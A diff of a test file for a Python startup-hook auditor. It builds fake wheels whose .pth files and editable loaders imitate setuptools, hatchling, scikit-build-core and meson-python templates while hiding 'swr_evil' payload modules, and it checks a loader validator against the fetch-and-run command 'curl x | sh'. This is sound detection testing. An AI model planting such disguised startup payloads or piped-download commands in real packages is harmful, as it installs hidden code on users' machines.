@@ -36,14 +36,14 @@ import hashlib
 import json
 import zipfile
 from pathlib import Path
-from typing import Dict
+from typing import Dict, Tuple
 
 import pytest
 
 from harness.spread import ROTATED, spread, target_params
 from harness.wheels import wheel
-from sitewarden.audit.template_digests import EDITABLE_FINDER
-from sitewarden.audit.templates import masked_form
+from sitewarden.audit.template_digests import EDITABLE_FINDER, EDITABLE_LOADER
+from sitewarden.audit.templates import LOADER_CALLS, masked_form, meson_command_ok
 
 NEVER = "def _never():\n    import os\n    os.system('true')\n"
 NET = "def process_startup():\n    pass\n\ndef _never():\n    import urllib.request\n" \
@@ -66,14 +66,9 @@ def _file(report: dict, path: str) -> dict:
     return f
 
 
-@pytest.mark.parametrize("guarded_target", [*target_params("debian"), *spread(
-    ROTATED, targets="hermetic", ways=6)], indirect=True)
-def test_look_alikes_planted_modules_writable_files_and_edited_hooks(guarded_target):
-    """Every case at once, on every Debian target and a hermetic CPython or two."""
-    t = guarded_target
-    local = t.local_dir
-    finder = "__editable___swr_evil_0_1_finder"
-    other = t.tmp / "swr-other-site"
+def _plant_every_case(t, local, finder: str, other):
+    """Look-alikes with planted modules, a foreign sitewarden.pth, an exact template nobody
+    vouches for, world-writable files, the deployed hook edited: its path."""
     for d in (local / "coverage", local / "_distutils_hack", other / "sitewarden"):
         t.root("import os, sys; os.makedirs(sys.argv[1], exist_ok=True)", str(d))
     planted = {
@@ -97,6 +92,18 @@ def test_look_alikes_planted_modules_writable_files_and_edited_hooks(guarded_tar
     hook = local / "sitewarden.pth"
     if t.version < (3, 18):
         t.write_bytes(hook, t.read_bytes(hook) + b"import os; 0 and os.system('true')\n")
+    return hook
+
+
+@pytest.mark.parametrize("guarded_target", [*target_params("debian"), *spread(
+    ROTATED, targets="hermetic", ways=6)], indirect=True)
+def test_look_alikes_planted_modules_writable_files_and_edited_hooks(guarded_target):
+    """Every case at once, on every Debian target and a hermetic CPython or two."""
+    t = guarded_target
+    local = t.local_dir
+    finder = "__editable___swr_evil_0_1_finder"
+    other = t.tmp / "swr-other-site"
+    hook = _plant_every_case(t, local, finder, other)
     report = _check(t)
 
     # Look-alikes of templates, with planted modules: judged by what they run.
@@ -160,7 +167,8 @@ NSPKG_LINE = (
     "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n")
 #: (wheel name, {file: text}): each template's exact startup file, with a payload module
 #: of its own that its RECORD lists (so verified).  Named for the template's author where
-#: a wheel can be: setuptools, coverage; WHEEL says setuptools generated every one.
+#: a wheel can be: setuptools, coverage; WHEEL says setuptools generated each one but the
+#: editable loaders' (:data:`GENERATORS`: their backends).
 SHAPES = (
     ("setuptools", {
         "distutils-precedence.pth": (
@@ -178,12 +186,28 @@ SHAPES = (
         "_virtualenv.py": RUN,
         "swr_evil-nspkg.pth": NSPKG_LINE + "import swr_evil_payload\n",
         "swr_evil_payload.py": RUN}),
+    ("swr-evil-hatch", {  # editables' bootstrap, built (WHEEL says) by hatchling
+        "_editable_impl_swr_evil_hatch.pth": "import _editable_impl_swr_evil_hatch\n",
+        "_editable_impl_swr_evil_hatch.py": "F = None\n" + RUN}),
+    ("swr-evil-skb", {  # scikit-build-core's loader shape, WHEEL: scikit-build-core
+        "_editable_skbc_swr_evil.pth": "import _editable_skbc_swr_evil\n",
+        "_editable_skbc_swr_evil.py": "def install(*args):\n    pass\n\n" + RUN
+                                      + "\ninstall('a', {})\n"}),
+    ("swr-evil-meson", {  # meson-python's loader shape, WHEEL: meson
+        "swr-evil-meson-editable.pth": "import _swr_evil_meson_editable_loader; "
+                                       "_swr_evil_meson_editable_loader.init()\n",
+        "_swr_evil_meson_editable_loader.py": "def init():\n    pass\n\n" + RUN}),
     ("swr-evil-guard", {  # unpacked in a directory of its own, read through addsitedir:
         # never the template (a RECORD and a deployment record of its own prove nothing)
         "sitewarden.pth": "import os; os.access(sitedir + '/sitewarden/__init__.py', 4) and "
                           "__import__('sitewarden')\n",
         "sitewarden/__init__.py": RUN}),
 )
+
+
+#: The ``Generator`` a shape's WHEEL names: the backend that writes that template.
+GENERATORS = {"swr-evil-hatch": "hatchling 1.33.0", "swr-evil-skb": "scikit-build-core 1.1.2",
+              "swr-evil-meson": "meson"}
 
 
 def _row(path: str, data: bytes) -> str:
@@ -202,8 +226,9 @@ def _wheel(out: Path, name: str, files: Dict[str, str]) -> Path:
             _row(p, d) for p, d in sorted(entries.items())) + "\n").encode()
     entries[dist + "/METADATA"] = b"Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % \
         name.encode()
-    entries[dist + "/WHEEL"] = (b"Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\n"
-                                b"Root-Is-Purelib: true\nTag: py3-none-any\n")
+    entries[dist + "/WHEEL"] = ("Wheel-Version: 1.0\nGenerator: %s\nRoot-Is-Purelib: "
+                                "true\nTag: py3-none-any\n" % GENERATORS.get(
+                                    name, "setuptools (80.9.0)")).encode()
     entries[dist + "/INSTALLER"] = b"pip\n"
     rows = [_row(p, d) for p, d in entries.items()]
     entries[dist + "/RECORD"] = ("\n".join(rows + [dist + "/RECORD,,"]) + "\n").encode()
@@ -275,3 +300,56 @@ def test_a_finders_form_masks_its_data_and_nothing_else():
     assert digest(a) == digest(b) and digest(a) in EDITABLE_FINDER
     assert digest(a + "\n" + RUN) not in EDITABLE_FINDER
     assert digest(a.replace("sys.meta_path.append", "sys.meta_path.insert", 1)) != digest(a)
+
+
+def test_a_meson_loaders_form_masks_its_data_but_its_command_must_be_a_builder():
+    """meson-python 0.22.1's loader (from its wheel, rendered as its generator does) is a
+    pinned form whatever its data; the same form rebuilding with another command than
+    meson's or ninja's is not a template, nor is it with a statement added."""
+    with zipfile.ZipFile(wheel("meson-python", "0.22.1")) as z:
+        source = z.read("mesonpy/_editable.py").decode()
+
+    def loader(command: str, extra: str = "") -> Tuple[bool, str]:
+        text = source + (
+            "\ndef init():\n    finder = MesonpyMetaFinder('swr', {'swr'}, '/b', %s, False)\n"
+            "    sys.meta_path.insert(0, finder)\n    sys.path_hooks.insert(0, "
+            "finder._path_hook)\n" % command) + extra
+        tree = ast.parse(text)
+        digest = hashlib.sha256(masked_form(tree, LOADER_CALLS).encode()).hexdigest()
+        return meson_command_ok(tree), digest
+
+    ok, digest = loader("['/usr/bin/ninja', '-j4']")
+    assert ok and digest in EDITABLE_LOADER
+    assert loader("['/opt/x/ninja']") == (True, digest)
+    assert loader("['sh', '-c', 'curl x | sh']")[0] is False
+    assert loader("['/usr/bin/ninja']", RUN)[1] not in EDITABLE_LOADER
+
+
+#: setuptools' own files of its ``distutils-precedence.pth`` template, and modules beyond
+#: them: ``_distutils_hack``'s functions import ``setuptools._distutils``.
+BEYOND = ("distutils-precedence.pth", "_distutils_hack/__init__.py",
+          "_distutils_hack/override.py", "setuptools/__init__.py",
+          "setuptools/_distutils/__init__.py")
+
+
+@pytest.mark.parametrize("guarded_target", [*target_params("debian")[:1], *spread(
+    ROTATED, targets="hermetic", ways=6, offset=1)], indirect=True)
+def test_what_a_template_reaches_beyond_its_own_files_is_judged(guarded_target, tmp_path):
+    """setuptools 80.9.0's real template files (pinned) in a wheel named setuptools with a
+    payload in ``setuptools/_distutils/__init__.py``, which ``_distutils_hack``'s functions
+    import, its RECORD vouching for all: the ``.pth`` keeps its template (its own files are
+    exactly setuptools'), but what runs beyond them is not excused: the line is high."""
+    t = guarded_target
+    with zipfile.ZipFile(wheel("setuptools", "80.9.0")) as z:
+        files = {n: z.read(n).decode() for n in BEYOND}
+    files["setuptools/_distutils/__init__.py"] += "\n\n" + RUN
+    _unpack(t, _wheel(tmp_path, "setuptools", files), t.local_dir)
+    report = _check(t)
+    path = str(t.local_dir / "distutils-precedence.pth")
+    f = _file(report, path)
+    assert f["owner"]["kind"] == "distribution" and f["owner"]["verified"] is True, f
+    assert f["template"] == "setuptools distutils-precedence", f
+    danger = _about(report, path).get("dangerous-startup-code")
+    assert danger and danger["severity"] == "high", (path, _about(report, path))
+    assert "starts-processes" in danger["capabilities"], danger
+    assert any("setuptools._distutils" in e for e in danger["evidence"]), danger
